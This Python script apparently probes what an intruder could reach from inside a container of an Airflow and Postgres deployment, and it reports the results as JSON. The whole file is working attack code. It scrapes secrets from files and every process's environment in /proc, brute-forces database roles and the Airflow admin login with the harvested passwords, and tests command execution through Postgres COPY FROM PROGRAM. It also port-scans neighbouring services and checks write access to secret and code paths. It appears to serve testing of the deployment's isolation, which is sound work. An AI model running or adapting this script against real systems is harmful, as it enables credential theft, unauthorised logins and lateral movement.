"""What an intruder tries who runs code in a container: by `python3 -c` there; prints what came of it as JSON."""

from __future__ import annotations

import itertools
import json
import os
import re
import socket
import sys
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

FOLDERS = ("/run", "/var/lib", "/opt/airflow", "/opt/highwater/config", "/tmp", "/home", "/root", "/etc", "/mnt")
HOSTS = ("metadata", "warehouse", "redis", "apiserver", "scheduler", "worker", "dag-processor", "triggerer", "init")
PORTS = (22, 5432, 5555, 6379, 8080, 8793, 8794)
ROLES = ("postgres", "publisher", "airflow", "operator", "analyst", "loader", "simulator", "legacy_reader")
TARGETS = (
    "/usr/mine", "/opt/highwater/dags/mine.py", "/opt/highwater/sql/mine.sql", "/opt/highwater/config/mine.py",
    "/opt/highwater/highwater/mine.py", "/opt/highwater/simulation/mine.py",
    "/opt/highwater/expectations/mine.json", "/opt/airflow/mine.cfg",
    "/run/highwater-secrets/mine", "/run/highwater-ui/ui_passwords.json", "/run/sockets/mine",
    "/var/lib/highwater/ui_passwords.json", "/var/lib/highwater/anchor", "/var/lib/highwater/policies.json",
)  # fmt: skip


def texts(folders: tuple[str, ...] = FOLDERS) -> str:
    """Everything that can be read: files, and the environment and arguments of every process."""
    found = [json.dumps(dict(os.environ))]
    paths = [Path(folder) / name for top in folders for folder, _, names in os.walk(top) for name in names]
    paths += [p / name for p in Path("/proc").iterdir() if p.name.isdigit() for name in ("environ", "cmdline")]
    for path in paths:
        try:
            if path.is_file() and path.stat().st_size < 1 << 22:
                found.append(path.read_bytes().decode(errors="replace"))
        except OSError:
            continue
    return "\n".join(found)


def guesses() -> list[str]:
    """Whatever looks like a generated password, in the secrets and in the environment."""
    known = texts(("/run",))
    return sorted({word for word in re.findall(r"[\w-]{32}(?![\w-])", known) if not re.fullmatch(r"[0-9a-f]+", word)})


def logins(passwords: list[str], known: dict[str, set[str]]) -> list[list[str]]:
    """Server, role and what it is, for each login that some password opens."""
    tries = [
        (server, min(known[server]), role, password)
        for server, role, password in itertools.product(("warehouse", "metadata"), ROLES, ["none", *passwords])
        if known[server]
    ]
    with ThreadPoolExecutor(16) as pool:
        return sorted(found for found in pool.map(lambda each: log_in(*each), tries) if found)


def log_in(server: str, address: str, role: str, password: str) -> list[str]:
    """Server, role and whether it is a superuser or runs programs; nothing where the login is refused."""
    import psycopg2

    database = "airflow" if server == "metadata" else "warehouse"
    try:
        link = psycopg2.connect(
            host=address, user=role, password=password, dbname=database, connect_timeout=30, sslmode="disable"
        )
    except psycopg2.OperationalError as error:
        return [server, role, "no superuser"] if "permission denied for database" in str(error) else []
    with link.cursor() as cursor:
        cursor.execute("SELECT rolsuper FROM pg_roles WHERE rolname = current_user")
        what = "superuser" if next(cursor)[0] else "no superuser"
        try:
            cursor.execute("CREATE TABLE pg_temp.stolen (line text)")
            cursor.execute("COPY pg_temp.stolen FROM PROGRAM 'id'")
            what = "runs programs"
        except psycopg2.Error:
            pass
    link.close()
    return [server, role, what]


def addresses() -> dict[str, set[str]]:
    """Where each service is; a name that nobody has takes its time, so they are asked for at once."""

    def look_up(host: str) -> set[str]:
        try:
            return {str(info[4][0]) for info in socket.getaddrinfo(host, 0, socket.AF_INET)}
        except OSError:
            return set()

    with ThreadPoolExecutor(len(HOSTS)) as pool:
        return dict(zip(HOSTS, pool.map(look_up, HOSTS), strict=True))


def open_ports(known: dict[str, set[str]]) -> list[str]:
    """Every port of another service that takes a connection."""

    def is_open(address: str, port: int) -> bool:
        try:
            socket.create_connection((address, port), timeout=3).close()
        except OSError:
            return False
        return True

    others = {host: found for host, found in known.items() if not found & own_addresses()}
    return [f"{host}:{port}" for host in others for port in PORTS if any(is_open(at, port) for at in others[host])]


def own_addresses() -> set[str]:
    """The addresses of this container."""
    return set(socket.gethostbyname_ex(socket.gethostname())[2])


def written() -> list[str]:
    """What could be written that is not for it."""
    done = []
    for target in TARGETS:
        try:
            with Path(target).open("a"):
                done.append(target)
        except OSError:
            continue
    return done


def let_in(passwords: list[str]) -> list[str]:
    """The passwords that Airflow's login takes."""

    def is_taken(password: str) -> bool:
        body = json.dumps({"username": "admin", "password": password}).encode()
        asked = urllib.request.Request(
            "http://apiserver:8080/auth/token", body, {"Content-Type": "application/json"}, method="POST"
        )
        try:
            urllib.request.urlopen(asked, timeout=60).close()
        except urllib.error.HTTPError:
            return False
        return True

    return [password for password in ["admin", "airflow", *passwords] if is_taken(password)]


def has_way_out() -> bool:
    """Whether there is a route that leads beyond the networks this container is in."""
    return any(line.split()[1] == "00000000" for line in Path("/proc/net/route").read_text().splitlines()[1:])


def main() -> dict[str, Any]:
    """All of it."""
    passwords, hosts = guesses(), addresses()
    return {
        "known": texts(),
        "passwords": len(passwords),
        "logins": logins(passwords, hosts),
        "ports": open_ports(hosts),
        "written": written(),
        "let in": let_in(passwords),
        "way out": has_way_out(),
    }


if __name__ == "__main__":
    sys.stdout.write(json.dumps(main()) + "\n")
